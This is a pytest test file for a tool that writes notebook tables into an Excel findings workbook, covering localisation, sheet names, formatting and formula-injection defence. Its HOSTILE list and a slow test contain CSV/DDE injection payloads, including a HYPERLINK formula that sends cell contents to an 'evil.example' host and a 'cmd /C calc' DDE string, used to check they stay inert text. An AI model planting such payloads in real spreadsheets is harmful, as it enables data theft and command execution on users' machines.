"""The findings workbook: kept tables collected from notebooks, written safely and readably."""

import datetime as dt
import zipfile

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from partnerlab.findings import KEEP_MIME, KeptTable, collect_kept, strip_kept, table_rows, write_findings

# OWASP "CSV Injection": cells starting with these characters can be read as formulas/DDE.
HOSTILE = ['=HYPERLINK("http://evil","x")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1", "=cmd|' /C calc'!A0"]


def _kept(df, name="critical_group", **kw):
    return KeptTable(name, df.to_json(orient="split", date_format="iso"), **kw)


def _write(tmp_path, *tables, lang="en"):
    path = write_findings(list(tables), tmp_path / "findings.xlsx", lang)
    return path, openpyxl.load_workbook(path)


def test_hostile_names_stay_text(tmp_path):
    df = pd.DataFrame({"name": HOSTILE, "n": range(len(HOSTILE))})
    path, book = _write(tmp_path, _kept(df))
    sheet = book["Critical group"]
    values = [sheet.cell(row=r, column=1).value for r in range(2, len(HOSTILE) + 2)]
    assert values == [h.replace("\r", "\n") for h in HOSTILE]  # XML reads a bare CR as LF
    for row in book["Critical group"].iter_rows():
        for cell in row:
            assert cell.data_type != "f"
    assert all(sheet.cell(row=r, column=1).quotePrefix for r in range(2, len(HOSTILE) + 2))
    with zipfile.ZipFile(path) as z:  # no formula element anywhere in the file
        assert not any(
            "<f>" in z.read(n).decode() or "<f " in z.read(n).decode()
            for n in z.namelist()
            if n.startswith("xl/worksheets/")
        )


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=12).map(lambda s: "=" + s), min_size=1, max_size=5))
def test_any_leading_equals_is_text(tmp_path_factory, names):
    tmp = tmp_path_factory.mktemp("hyp")
    _, book = _write(tmp, _kept(pd.DataFrame({"name": names}), "t"))
    cells = [c for row in book["T"].iter_rows(min_row=2) for c in row]
    assert all(c.data_type == "s" for c in cells)


def test_one_sheet_per_kind_of_table_with_contents(tmp_path):
    a = pd.DataFrame({"id": ["S1"], "name": ["Alpha"], "sector": ["civil_society"]})
    b = pd.DataFrame({"id": ["S2"], "name": ["Beta"], "sector": ["academia"]})
    tables = [
        _kept(a, report="stakeholder_map", title="Mapa de actores"),
        _kept(b, report="stakeholder_map__academia", title="Mapa de actores: Academia", params={"sector": "academia"}),
        _kept(a.assign(share_pct=[50.0]), "late_actions_x", report="action_plan", title="Plan de acción"),
    ]
    _, book = _write(tmp_path, *tables, lang="es")
    assert book.sheetnames == ["Contenido", "Grupo crítico", "Late actions x"]
    contents = [[c.value for c in row] for row in book["Contenido"].iter_rows()]
    assert contents[0] == ["Hoja", "Tabla", "Informes", "Filas"]
    assert contents[1] == ["Grupo crítico", "Grupo crítico", "Mapa de actores; Mapa de actores: Academia", 2]
    assert book["Contenido"]["A2"].hyperlink.location == "'Grupo crítico'!A1"
    # the fanned-out copies share a sheet, told apart by their report; labels, not keys
    rows = [[c.value for c in row] for row in book["Grupo crítico"].iter_rows()]
    assert rows == [
        ["Informe", "Id", "Nombre", "Sector"],
        ["Mapa de actores", "S1", "Alpha", "Sociedad civil"],
        ["Mapa de actores: Academia", "S2", "Beta", "Academia"],
    ]
    assert [c.value for c in book["Late actions x"][1]] == ["Id", "Nombre", "Sector", "Proporción (%)"]


@pytest.mark.parametrize(
    "lang, sheet, header",
    [
        ("en", "Due diligence findings", "Due diligence outcome"),
        ("pt", "Constatações de due diligence", "Resultado da due diligence"),
    ],
)
def test_sheet_names_headers_and_labels_in_the_batch_language(tmp_path, lang, sheet, header):
    df = pd.DataFrame(
        {
            "name": ["A"],
            "outcome": ["not_screened"],
            "roles": [["counterpart", "beneficiary"]],
            "free": ["civil_society"],
        }
    )
    _, book = _write(tmp_path, _kept(df, "due_diligence_findings"), lang=lang)
    rows = [[c.value for c in row] for row in book[sheet].iter_rows()]
    assert rows[0][1] == header and rows[0][3] == "Free"
    assert rows[1][1] != "not_screened" and "_" not in rows[1][2]  # labels of the vocabulary
    assert rows[1][3] == "civil_society"  # a column without a vocabulary keeps its text


def test_header_frozen_filtered_and_sized(tmp_path):
    df = pd.DataFrame({"id": ["S1", "S2"], "mandate": ["x" * 300, "short"], "n": [1, 2]})
    _, book = _write(tmp_path, _kept(df))
    sheet = book["Critical group"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C3"
    assert all(c.font.bold for c in sheet[1])
    widths = {k: sheet.column_dimensions[k].width for k in "ABC"}
    assert widths["A"] == 8 and widths["B"] == 60  # clamped between the minimum and maximum


def test_dates_numbers_lists_and_blanks(tmp_path):
    df = pd.DataFrame(
        {
            "assessed_on": pd.to_datetime(["2024-03-01", None]),
            "score": [2.5, float("nan")],
            "states": [["jalisco", "oaxaca"], []],
            "flag": [True, False],
        }
    )
    _, book = _write(tmp_path, _kept(df))
    row2 = [c.value for c in book["Critical group"][2]]
    row3 = [c.value for c in book["Critical group"][3]]
    assert row2 == [dt.datetime(2024, 3, 1), 2.5, "Jalisco; Oaxaca", True]  # labels, not keys
    assert row3 == [None, None, None, False]
    assert book["Critical group"]["A2"].number_format == "yyyy-mm-dd"


@pytest.mark.parametrize(
    "name, sheet",
    [
        ("a/b:c*d?[e]", "A b c d e"),
        ("x" * 40, "X" + "x" * 30),
        ("'quoted'", "quoted"),
        ("Contents", "Contents (2)"),  # the contents sheet keeps its name
    ],
)
def test_sheet_names_are_valid(tmp_path, name, sheet):
    _, book = _write(tmp_path, _kept(pd.DataFrame({"a": [1]}), name))
    assert book.sheetnames[1] == sheet


def test_control_characters_are_dropped(tmp_path):
    _, book = _write(tmp_path, _kept(pd.DataFrame({"a": ["bell\x07 here"]})))
    assert book["Critical group"]["A2"].value == "bell here"


def test_named_index_becomes_a_column():
    df = pd.DataFrame({"n": [3, 1]}, index=pd.Index(["public", "academia"], name="sector"))
    header, rows = table_rows(df.to_json(orient="split"))
    assert header == ["", "n"] and rows == [["public", 3], ["academia", 1]]


def _nb_with_kept():
    keep = {
        "output_type": "display_data",
        "data": {KEEP_MIME: {"columns": ["a"], "index": [0], "data": [[1]]}, "text/plain": "t"},
        "metadata": {"partnerlab": {"keep": "tbl"}},
    }
    plain = {"output_type": "stream", "name": "stdout", "text": "hello"}
    return {"cells": [{"cell_type": "code", "outputs": [plain, keep]}, {"cell_type": "markdown"}]}


def test_collect_accepts_parsed_json():
    # nbformat hands JSON mime bundles back as dicts after a round trip
    [(name, data)] = collect_kept(_nb_with_kept())
    assert name == "tbl" and table_rows(data) == (["a"], [[1]])


def test_strip_kept():
    nb = strip_kept(_nb_with_kept())
    assert [o["output_type"] for o in nb["cells"][0]["outputs"]] == ["stream"]


def test_filtered_row_numbers_are_dropped():
    # critical_group() keeps the stakeholders' row numbers (3, 58, ...): not a column for a reader
    df = pd.DataFrame({"id": ["SE2030", "BID", "ANUIES"]}, index=[3, 58, 22])
    assert table_rows(df.to_json(orient="split")) == (["id"], [["SE2030"], ["BID"], ["ANUIES"]])


def _renamed_sample(tmp_path, names: dict):
    """A copy of the bundled sample with some stakeholders renamed ({id: new name})."""
    from partnerlab import paths

    if not paths.SAMPLE_WORKBOOK.exists():
        pytest.skip(f"needs the bundled sample {paths.SAMPLE_WORKBOOK.relative_to(paths.ROOT)}")
    book = openpyxl.load_workbook(paths.SAMPLE_WORKBOOK)
    from partnerlab import schema
    from samples import portfolio

    spec = schema.sheet("stakeholders")  # the sample is written with the Spanish template
    sheet = book[spec.name(portfolio.LANG)]
    header = [c.value for c in sheet[1]]
    id_col, name_col = header.index("id") + 1, header.index(spec.column("name").header(portfolio.LANG)) + 1
    found = set()
    for r in range(2, sheet.max_row + 1):
        sid = sheet.cell(row=r, column=id_col).value
        if sid in names:
            cell = sheet.cell(row=r, column=name_col)
            cell.value = names[sid]
            cell.data_type = "s"  # typed text, as Excel stores '=HYPERLINK(...) (not a formula)
            found.add(sid)
    assert found == set(names), "the sample no longer has these stakeholders"
    path = tmp_path / "renamed.xlsx"
    book.save(path)
    return path


@pytest.mark.slow
def test_formula_names_from_a_real_report_stay_text(tmp_path):
    # SE2030 (influence 5, interest 5) heads the critical group the stakeholder map keeps
    from partnerlab import batch
    from partnerlab.report_catalogue import default_batch
    from partnerlab.workbook import load_workbook

    hostile = {"SE2030": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "BID": "@SUM(1+1)*cmd|' /C calc'!A0"}
    path = _renamed_sample(tmp_path, hostile)
    jobs = [j for j in default_batch(load_workbook(path)) if j.name == "stakeholder_map"]
    result = batch.run_batch(path, tmp_path / "out", job_list=jobs, jobs=1, lang="en", progress=False)
    assert result.exit_code == 0, result.reports
    out = result.out / "findings.xlsx"
    sheet = openpyxl.load_workbook(out)["Critical group"]
    names = {row[1].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for text in hostile.values():
        assert names[text].data_type == "s" and names[text].quotePrefix
    with zipfile.ZipFile(out) as z:
        assert not any(
            b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")
        )


def test_a_spreadsheet_program_opens_it_with_its_links_dates_and_text(tmp_path, libreoffice):
    """findings.xlsx is streamed by partnerlab.xmlwrite (not openpyxl): LibreOffice Calc opens it and
    saves it again with the same sheets, the contents' links (a sheet name with an apostrophe
    too), a date as a date and a formula-like name as text."""
    df = pd.DataFrame({"name": ['=HYPERLINK("http://evil","x")'], "assessed_on": ["2024-03-01"], "n": [3]})
    path, book = _write(tmp_path, _kept(df), _kept(df, "partner's_list"))
    assert book["Contents"]["A3"].hyperlink.location == "'Partner''s list'!A1"
    again = openpyxl.load_workbook(libreoffice(path, "xlsx:Calc MS Excel 2007 XML", tmp_path / "calc"))
    assert again.sheetnames == ["Contents", "Critical group", "Partner's list"]
    contents = again["Contents"]
    assert [contents["A2"].hyperlink.location, contents["A3"].hyperlink.location] == [
        "'Critical group'!A1",
        "'Partner''s list'!A1",
    ]
    sheet = again["Critical group"]
    assert [c.value for c in sheet[2]] == ['=HYPERLINK("http://evil","x")', dt.datetime(2024, 3, 1), 3]
    assert sheet["A2"].data_type == "s" and sheet["B2"].is_date
    assert sheet.auto_filter.ref == "A1:C2"  # (a headless Calc drops frozen panes, openpyxl's files' too)
